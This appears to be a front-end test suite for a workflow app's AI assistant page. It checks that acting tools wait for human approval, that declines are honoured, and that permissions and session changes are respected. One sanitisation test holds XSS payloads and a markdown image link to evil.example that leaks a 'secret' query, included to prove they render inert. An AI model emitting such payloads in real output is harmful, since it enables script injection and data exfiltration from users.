import { screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { readFileSync } from "node:fs";
import { beforeEach, describe, expect, it } from "vitest";
import { open, page, type Answers } from "../../test/page";
import { id, run, runs, workflows } from "../../test/mock/world.mjs";
import { chooseOrganization, signedIn, signedOut } from "../api/session";
import { ACTS } from "./acting";
import { READERS } from "./reading";
import { forgetTalks } from "./talks";

type Tool = { name: string; does: "read" | "act" };
type Sent = { messages: { role: string; text?: string; callId?: string; result?: string; calls?: unknown[] }[] };

const CONNECTOR = { id: id("conn", 1), name: "Models", type: "openai-compatible", status: "connected", data: { host: "models.example" } };
const [WORKFLOW = { id: "", name: "" }] = workflows;

const calls = (tool: string, given: object, acts = false) => ({ calls: [{ id: `call_${tool}`, tool, arguments: given, acts }] });
const words = (text: string) => ({ text, calls: [] });

/** A model that says these, one after the other. */
function scripted(...turns: object[]): Answers {
  const left = [...turns];
  return {
    "GET /v1/connectors": () => page([CONNECTOR]),
    [`GET /v1/connectors/${CONNECTOR.id}`]: () => CONNECTOR,
    "GET /v1/assistant/models": () => ({ connectorId: CONNECTOR.id, preferred: "small", models: ["large", "small"] }),
    "POST /v1/assistant/replies": () => {
      const turn = left.shift() ?? words("That is all.");
      return turn instanceof Response || turn instanceof Promise ? turn : { text: null, truncated: false, model: "small", connectorId: CONNECTOR.id, inputTokens: 100, outputTokens: 10, ...turn };
    },
  };
}

const sent = (requests: { line: string; body: unknown }[]): Sent[] => requests.filter(({ line }) => line === "POST /v1/assistant/replies").map(({ body }) => body as Sent);
const lines = (requests: { line: string }[]) => requests.map(({ line }) => line);

async function ask(text: string): Promise<void> {
  await userEvent.type(await screen.findByRole("textbox", { name: "Your question" }), `${text}{Enter}`);
}

beforeEach(forgetTalks);

it("has for each tool of the server one that carries it out, and none besides", () => {
  const tools = JSON.parse(readFileSync("../catalog/assistant/tools.json", "utf8")) as Tool[];
  const named = (does: Tool["does"]) => tools.filter((tool) => tool.does === does).map(({ name }) => name);
  expect(Object.keys(READERS).sort()).toEqual(named("read").sort());
  expect(Object.keys(ACTS).sort()).toEqual(named("act").sort());
});

describe("a tool that reads", () => {
  it("is carried out at once in the name of the reader, and leads to what was looked at", async () => {
    const failed = { ...runs[0], status: "failure" };
    const { requests } = await open("/assistant", {
      ...scripted(calls("list_runs", { status: "failure", startedAfter: "2026-12-01T00:00:00Z" }), words(`One failed: [the run](/runs/${failed.id}).`)),
      "GET /v1/runs": () => page([failed]),
    });
    await ask("Which runs failed today?");
    expect(await screen.findByRole("link", { name: "the run" })).toHaveAttribute("href", `/runs/${failed.id}`);
    const look = await screen.findByRole("link", { name: "runs: failure" });
    expect(look.getAttribute("href")).toMatch(/^\/runs\?status=failure/);
    expect(lines(requests).find((line) => line.startsWith("GET /v1/runs?"))).toMatch(/status=failure&from=2026-12-01T00%3A00%3A00Z/);

    const [first, second] = sent(requests);
    expect(first?.messages).toEqual([{ role: "person", text: "Which runs failed today?" }]);
    expect(second?.messages.map(({ role }) => role)).toEqual(["person", "assistant", "tool"]);
    expect(second?.messages[2]?.result).toContain(failed.id);
    expect(screen.getByRole("log")).toContainElement(look);
    expect(screen.getByText(/200 tokens that were read/)).toBeVisible();
  });

  it("tells the model what was refused, and the reader as well", async () => {
    const { requests } = await open("/assistant", {
      ...scripted(calls("list_tasks", {}), words("You may not see tasks.")),
      "GET /v1/tasks": () => new Response(JSON.stringify({ code: "forbidden", title: "Not allowed", message: "`tasks:read` is needed" }), { status: 403 }),
    });
    await ask("What waits?");
    expect(await screen.findByText("You may not see tasks.")).toBeVisible();
    expect(sent(requests)[1]?.messages[2]?.result).toBe("error: forbidden: `tasks:read` is needed");
    expect(screen.getByText(/list tasks, which was refused/)).toBeVisible();
  });

  it("keeps every digit, and cuts what is too long for a model", async () => {
    const wei = "115792089237316195423570985008687907853269984665640564039457584007913129639935";
    const { requests } = await open("/assistant", {
      ...scripted(calls("get_run", { runId: run.id }), words("It is long.")),
      [`GET /v1/runs/${run.id}`]: () => new Response(`{"code":"ok","data":{"id":"${run.id}","output":${wei}}}`, { status: 200 }),
      [`GET /v1/runs/${run.id}/events`]: () => page([{ type: "started", payload: "x".repeat(60_000) }]),
    });
    await ask("What did it give?");
    expect(await screen.findByText("It is long.")).toBeVisible();
    const result = sent(requests)[1]?.messages[2]?.result ?? "";
    expect(result).toContain(`"output":${wei}`);
    expect(result.length).toBeLessThan(25_000);
    expect(result).toMatch(/cut here/);
  });
});

describe("a tool that acts", () => {
  const started = calls("start_run", { workflowId: WORKFLOW.id, input: { amount: 25 } }, true);
  const answers = (...turns: object[]): Answers => ({
    ...scripted(started, ...turns),
    [`GET /v1/workflows/${WORKFLOW.id}`]: () => WORKFLOW,
    [`POST /v1/workflows/${WORKFLOW.id}/run`]: () => ({ runId: run.id }),
  });
  const order = `POST /v1/workflows/${WORKFLOW.id}/run`;

  it("waits for the person, shows what would be sent and where, and sends that once", async () => {
    const keys: (string | null)[] = [];
    const { requests } = await open("/assistant", { ...answers(words("It runs.")), [order]: (request) => (keys.push(request.headers.get("Idempotency-Key")), { runId: run.id }) });
    await ask("Start it");
    const card = await screen.findByRole("region", { name: "Proposal: Start a run" });
    expect(card).toHaveTextContent(order);
    expect(card).toHaveTextContent("Northwind Treasury");
    expect(card).toHaveTextContent(WORKFLOW.name);
    expect(within(card).getByLabelText("What would be sent")).toHaveTextContent('{ "payload": { "amount": 25 } }');
    expect(screen.getByText("A proposal waits for you. Nothing was sent.")).toBeVisible();
    expect(lines(requests)).not.toContain(order);
    expect(within(card).getByRole("button", { name: "Do it" })).not.toHaveFocus();

    await userEvent.dblClick(within(card).getByRole("button", { name: "Do it" }));
    expect(await screen.findByText("It runs.")).toBeVisible();
    expect(requests.filter(({ line }) => line === order).map(({ body }) => body)).toEqual([{ payload: { amount: 25 } }]);
    expect(keys[0]).toMatch(/^assistant-/);
    expect(within(card).getByRole("link", { name: "the run" })).toHaveAttribute("href", `/runs/${run.id}`);
    expect(sent(requests)[1]?.messages[2]?.result).toContain('"done":true');
    expect(within(card).queryByRole("button")).toBeNull();
  });

  it("is not sent where the person declines, which the model is told", async () => {
    const { requests } = await open("/assistant", answers(words("As you wish.")));
    await ask("Start it");
    await userEvent.click(await screen.findByRole("button", { name: "Don’t" }));
    expect(await screen.findByText("As you wish.")).toBeVisible();
    expect(lines(requests)).not.toContain(order);
    expect(sent(requests)[1]?.messages[2]?.result).toBe("the person declined: it was not sent");
    expect(screen.getByText("Not sent")).toBeVisible();
  });

  it("is not sent by going on, whatever is said", async () => {
    const { requests } = await open("/assistant", answers(words("All right.")));
    await ask("Start it");
    await screen.findByRole("button", { name: "Do it" });
    await ask("yes, do it");
    expect(await screen.findByText("All right.")).toBeVisible();
    expect(lines(requests)).not.toContain(order);
    expect(sent(requests)[1]?.messages.map(({ role }) => role)).toEqual(["person", "assistant", "tool", "person"]);
    expect(screen.queryByRole("button", { name: "Do it" })).toBeNull();
  });

  it("may be tried again under the same key where it was refused", async () => {
    const keys: (string | null)[] = [];
    const busy = () => new Response(JSON.stringify({ code: "busy", title: "Too much at once", message: "come again" }), { status: 429 });
    await open("/assistant", { ...answers(words("It runs.")), [order]: (request) => (keys.push(request.headers.get("Idempotency-Key")) === 1 ? busy() : { runId: run.id }) });
    await ask("Start it");
    await userEvent.click(await screen.findByRole("button", { name: "Do it" }));
    expect(await screen.findByText("come again")).toBeVisible();
    await userEvent.click(within(screen.getByRole("region", { name: /Proposal/ })).getByRole("button", { name: "Try again" }));
    expect(await screen.findByText("It runs.")).toBeVisible();
    expect(keys).toHaveLength(2);
    expect(keys[0]).toBe(keys[1]);
  });

  it("asks nothing more of a conversation that was begun anew while it was sent", async () => {
    let answer: (begun: object) => void = () => {};
    const late = new Promise<object>((resolve) => (answer = resolve));
    const { requests } = await open("/assistant", { ...answers(), [order]: () => late });
    await ask("Start it");
    await userEvent.click(await screen.findByRole("button", { name: "Do it" }));
    await userEvent.click(screen.getByRole("button", { name: "Start anew" }));
    answer({ runId: run.id });
    expect(await screen.findByRole("button", { name: "What waits for me?" })).toBeVisible();
    await waitFor(() => expect(lines(requests)).toContain(order));
    await ask("Hello");
    expect(await screen.findByText("That is all.")).toBeVisible();
    expect(sent(requests).map(({ messages }) => messages.length)).toEqual([1, 1]);
  });

  it("proposes no draft that has problems: the model mends it first", async () => {
    const draft = { name: "Mine", definition: { nodes: {} } };
    let looks = 0;
    const { requests } = await open("/assistant", {
      ...scripted(calls("draft_workflow", draft, true), calls("draft_workflow", { ...draft, definition: { nodes: { root: {} } } }, true)),
      "POST /v1/workflows/validate": () => ((looks += 1) === 1 ? { valid: false, problems: [{ path: "/nodes", message: "needs a root" }] } : { valid: true, problems: [] }),
    });
    await ask("Draft one");
    expect(await screen.findByRole("region", { name: "Proposal: Make a draft" })).toBeVisible();
    expect(screen.getAllByRole("region", { name: /Proposal/ })).toHaveLength(1);
    expect(sent(requests)[1]?.messages[2]?.result).toContain("needs a root");
    expect(lines(requests)).not.toContain("POST /v1/workflows");
  });
});

describe("what a model says", () => {
  it("is text: no markup, no image, no way out of the app", async () => {
    const hostile = '<img src=x onerror=alert(1)> <script>alert(2)</script> ![a](https://evil.example/?q=secret) [out](https://evil.example/) [js](javascript:alert(3)) [slashes](//evil.example/a) [raw](/v1/runs) https://evil.example/b [in](/runs?status=failure)';
    await open("/assistant", scripted(words(hostile)));
    await ask("Hello");
    const inside = await screen.findByRole("link", { name: "in" });
    expect(inside.getAttribute("href")).toBe("/runs?status=failure");
    const log = screen.getByRole("log");
    expect(log).toHaveTextContent("<script>alert(2)</script>");
    expect(within(log).getAllByRole("link")).toEqual([inside]);
    expect(log.querySelector("img, script")).toBeNull();
  });

  it("is not waited for any more once it was stopped, and may be asked again", async () => {
    const { requests } = await open("/assistant", scripted(new Promise(() => {}), words("Here.")));
    await ask("Slow?");
    await userEvent.click(await screen.findByRole("button", { name: "Stop" }));
    await waitFor(() => expect(screen.queryByRole("button", { name: "Stop" })).toBeNull());
    expect(screen.queryByRole("alert")).toBeNull();
    await ask("And now?");
    expect(await screen.findByText("Here.")).toBeVisible();
    expect(sent(requests)[1]?.messages.map(({ text }) => text)).toEqual(["Slow?", "And now?"]);
  });

  it("is asked for again where the provider has failed", async () => {
    const failed = new Response(JSON.stringify({ code: "assistant-unanswered", title: "The language model gave no answer", message: "the provider has a fault (500)" }), { status: 502 });
    await open("/assistant", scripted(failed, words("Here again.")));
    await ask("Are you there?");
    const note = await screen.findByRole("alert");
    expect(note).toHaveTextContent("the provider has a fault (500)");
    await userEvent.click(within(note).getByRole("button", { name: "Try again" }));
    expect(await screen.findByText("Here again.")).toBeVisible();
    expect(screen.queryByRole("alert")).toBeNull();
  });

  it("ends after so many looks, and goes on when it is told to", async () => {
    const { requests } = await open("/assistant", { ...scripted(...Array.from({ length: 12 }, () => calls("list_wallets", {})), words("At last.")), "GET /v1/wallets": () => page([]) });
    await ask("Look");
    const note = await screen.findByRole("alert");
    expect(note).toHaveTextContent("has looked 12 times");
    expect(sent(requests)).toHaveLength(12);
    await userEvent.click(within(note).getByRole("button", { name: "Try again" }));
    expect(await screen.findByText("At last.")).toBeVisible();
  });
});

describe("the page", () => {
  it("is there by its key from everywhere, keeps the conversation meanwhile, and forgets it with who was signed in", async () => {
    const { router } = await open("/assistant", scripted(words("Kept.")));
    await ask("Hello");
    await screen.findByText("Kept.");
    await router.navigate({ to: "/workflows", search: {} });
    await screen.findByRole("heading", { level: 1, name: "Workflows" });
    await userEvent.keyboard("{Control>}j{/Control}");
    expect(await screen.findByText("Kept.")).toBeVisible();
    expect(screen.getByRole("textbox", { name: "Your question" })).toHaveFocus();
    signedOut();
    await waitFor(() => expect(screen.queryByText("Kept.")).toBeNull());
    signedIn({ kind: "key", key: "ck_test" });
    expect(await screen.findByRole("button", { name: "Which runs failed today, and why?" })).toBeVisible();
    expect(screen.queryByText("Kept.")).toBeNull();
  });

  it("takes nothing into another organization that is chosen meanwhile", async () => {
    let answer: (turn: object) => void = () => {};
    const late = new Promise<object>((resolve) => (answer = resolve));
    const { requests } = await open("/assistant", scripted(late));
    await ask("Which runs failed?");
    await screen.findByRole("button", { name: "Stop" });
    const before = lines(requests).length;
    chooseOrganization(id("org", 1));
    answer({ text: null, truncated: false, model: "small", connectorId: CONNECTOR.id, inputTokens: 1, outputTokens: 1, ...calls("list_runs", {}) });
    await waitFor(() => expect(lines(requests).length).toBeGreaterThan(before));
    expect(lines(requests).some((line) => line.startsWith("GET /v1/runs"))).toBe(false);
    expect(sent(requests)).toHaveLength(1);
    chooseOrganization(undefined);
  });

  it("begins anew", async () => {
    await open("/assistant", scripted(words("First.")));
    await userEvent.click(await screen.findByRole("button", { name: "What waits for me?" }));
    await screen.findByText("First.");
    await userEvent.click(screen.getByRole("button", { name: "Start anew" }));
    expect(screen.queryByText("First.")).toBeNull();
    expect(await screen.findByText("models.example")).toBeVisible();
  });

  it("asks the model that is chosen", async () => {
    const { requests } = await open("/assistant", scripted(words("Yes.")));
    await userEvent.type(await screen.findByRole("combobox", { name: "Model" }), "large");
    await ask("Hello");
    await screen.findByText("Yes.");
    expect(sent(requests)[0]).toMatchObject({ model: "large", localTime: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$/) });
  });

  it("says how a provider is connected, with the form for it", async () => {
    const { requests } = await open("/assistant", { "GET /v1/connectors": () => page([]) });
    const link = await screen.findByRole("link", { name: "Connect a language model" });
    expect(link).toHaveAttribute("href", "/connectors?connect=openai-compatible");
    expect(lines(requests).some((line) => line.includes("/v1/assistant/"))).toBe(false);
  });

  it("says who may, to who may not", async () => {
    await open("/assistant", { "GET /v1/whoami": () => ({ actor: "user_1", kind: "user", organization: { id: id("org", 0), name: "N" }, permissions: ["runs:read"] }) });
    expect(await screen.findByText("Your role does not include the assistant")).toBeVisible();
    expect(screen.getByText("assistant:run")).toBeVisible();
    expect(screen.queryByRole("textbox", { name: "Your question" })).toBeNull();
  });
});
